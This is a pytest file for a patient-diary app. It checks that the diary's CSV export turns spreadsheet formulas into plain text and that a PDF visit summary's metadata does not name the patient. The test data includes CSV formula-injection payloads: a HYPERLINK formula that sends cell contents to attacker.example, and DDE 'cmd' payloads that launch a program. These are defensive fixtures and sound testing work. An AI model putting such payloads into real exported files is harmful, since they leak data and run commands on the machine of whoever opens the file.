"""Files the app writes for others to open (issue 17, M7 and L8): the diary as CSV opens in a
spreadsheet as text, never as formulas; the visit summary's PDF metadata names no one."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest

from companion.core.models import DiaryEntry, DoseRecord
from companion.services import PatientRecords

TODAY = dt.date(2026, 6, 15)
BERLIN = dt.timezone(dt.timedelta(hours=2))

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(autouse=True)
def _fixed_today(monkeypatch):
    monkeypatch.setenv("COMPANION_TODAY", TODAY.isoformat())


@pytest.fixture
def records(tmp_path):
    records = PatientRecords.open(tmp_path / "patient", today=lambda: TODAY)
    yield records
    records.close()


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(records):
    for n, text in enumerate(FORMULAS):
        records.diary.add(
            DiaryEntry(
                at=dt.datetime(2026, 6, 1 + n, 9, 0, tzinfo=BERLIN),
                by=text.strip() or "x",
                symptoms={"other": 1},
                other_text=text,
                note=text,
            )
        )
    records.diary.add(
        DiaryEntry(at=dt.datetime(2026, 6, 10, 9, 0, tzinfo=BERLIN), note="- felt fine, 2 km walk")
    )
    rows = list(csv.DictReader(io.StringIO(records.exchange.diary_csv().decode("utf-8-sig"))))
    assert len(rows) == len(FORMULAS) + 1
    for row in rows:
        for column in ("Written by", "Note", "Something else"):
            value = row[column]
            assert not value or value[0] not in "=+-@\t\r", f"{column} starts a formula: {value!r}"
    notes = {row["Note"] for row in rows}
    for text in FORMULAS:
        assert "'" + text in notes, f"the note {text!r} is not kept whole behind a single quote"
    assert "'- felt fine, 2 km walk" in notes
    plain = [row for row in rows if row["Note"].startswith("'- felt")]
    assert plain[0]["After dose"] == "" and plain[0]["Date"] == "2026-06-10"


def _info_values(pdf: bytes) -> dict[str, str]:
    """The document information (title, author, subject…) of a PDF made by reportlab."""
    values = {}
    for key in ("Title", "Author", "Subject", "Keywords", "Creator", "Producer"):
        match = re.search(rb"/" + key.encode() + rb"\s*(\((?:\\.|[^\\)])*\)|<[0-9A-Fa-f]*>)", pdf)
        if not match:
            continue
        raw = match.group(1)
        if raw.startswith(b"<"):
            data = bytes.fromhex(raw[1:-1].decode())
            values[key] = data.decode("utf-16") if data.startswith(b"\xfe\xff") else data.decode("latin-1")
        else:
            values[key] = _literal(raw[1:-1])
    return values


def _literal(raw: bytes) -> str:
    """A PDF literal string's text: its escapes (\\ddd octal, \\n, \\( …) undone."""
    simple = {b"n": b"\n", b"r": b"\r", b"t": b"\t", b"b": b"\b", b"f": b"\f"}

    def unescape(match: re.Match) -> bytes:
        code = match.group(1)
        if code[:1].isdigit():
            return bytes([int(code, 8) & 0xFF])
        return simple.get(code, code)

    data = re.sub(rb"\\([0-7]{1,3}|.)", unescape, raw)
    if data.startswith(b"\xfe\xff"):
        return data.decode("utf-16")
    return data.decode("latin-1")


@pytest.mark.parametrize("name", ["Anna Weber", "Zoë Ødegård"])
def test_the_pdf_metadata_names_no_one(records, tmp_path, name):

    records.profile.update(display_name=name, birth_date=dt.date(1970, 3, 2))
    records.doses.record(DoseRecord(given_on=dt.date(2026, 5, 4)))
    path = records.report.write(dt.date(2026, 3, 15), TODAY, "en", tmp_path / "summary.pdf")
    info = _info_values(Path(path).read_bytes())
    assert info.get("Title"), f"the PDF has no title at all: {info}"
    for key, value in info.items():
        for part in name.split():
            assert part not in value, f"the PDF's {key} holds the patient's name: {value!r}"
